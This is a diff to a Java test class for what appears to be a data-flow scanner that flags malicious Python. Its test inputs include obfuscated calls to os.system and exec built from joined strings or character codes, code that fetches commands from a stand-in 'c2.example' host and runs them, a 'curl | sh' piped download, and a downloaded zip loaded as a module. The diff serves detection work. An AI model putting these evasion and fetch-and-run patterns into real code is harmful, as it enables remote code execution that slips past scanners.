@@ -389,11 +389,17 @@ class DataFlowTest {
         strings = {
           "getattr(os, 'sys' 'tem')(c)",
           "getattr(os, 'po' + 'pen')(c)",
-          "__builtins__['ex' 'ec'](c)"
+          "__builtins__['ex' 'ec'](c)",
+          "builtins.__dict__.get('ex' + 'ec', print)(c)",
+          "os.__dict__['sys' 'tem'](c)",
+          "sys.modules.get('os').popen(c)",
+          "__import__(''.join(map(chr, [111, 115]))).system(c)",
+          "getattr(os, ''.join(chr(x) for x in (115, 121, 115, 116, 101, 109)))(c)"
         })
     void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
       String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
-      String flow = call.startsWith("__builtins__") ? "exec-fetched" : "runs-fetched";
+      String flow =
+          call.contains("ex") && !call.contains("system") ? "exec-fetched" : "runs-fetched";
 
       assertThat(reached(flow, fetched + call + "\n")).contains(3);
     }
@@ -416,6 +422,42 @@ class DataFlowTest {
                       "cmd = urllib.request.urlopen('https://c2.example/c').read()",
                       "atexit.register(subprocess.call, cmd, shell=True)")))
           .contains(3);
+    }
+
+    @Test
+    void aModuleFoundByANameIsThatModuleFromThenOn() {
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import importlib",
+                      "m = importlib.import_module(''.join(map(chr, [111, 115])))",
+                      "f = m.__dict__[''.join(map(chr, [115, 121, 115, 116, 101, 109]))]",
+                      "f('curl -s https://a.example/x | sh')")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import importlib",
+                      "m = importlib.import_module(''.join(map(chr, [106, 115, 111, 110])))",
+                      "f = m.__dict__['dumps']",
+                      "f('curl -s https://a.example/x | sh')")))
+          .isEmpty(); // json.dumps of the text is no command
+    }
+
+    @Test
+    void aDownloadLoadedAsAModuleFromAZipIsImported() {
+      assertThat(
+              reached(
+                  "imports-fetched",
+                  lines(
+                      "import urllib.request, zipimport",
+                      "path = '/tmp/c.zip'",
+                      "with urllib.request.urlopen(U) as r, open(path, 'wb') as f:",
+                      "    f.write(r.read())",
+                      "zipimport.zipimporter(path).load_module('stage')")))
+          .contains(5);
     }
 
     @ParameterizedTest
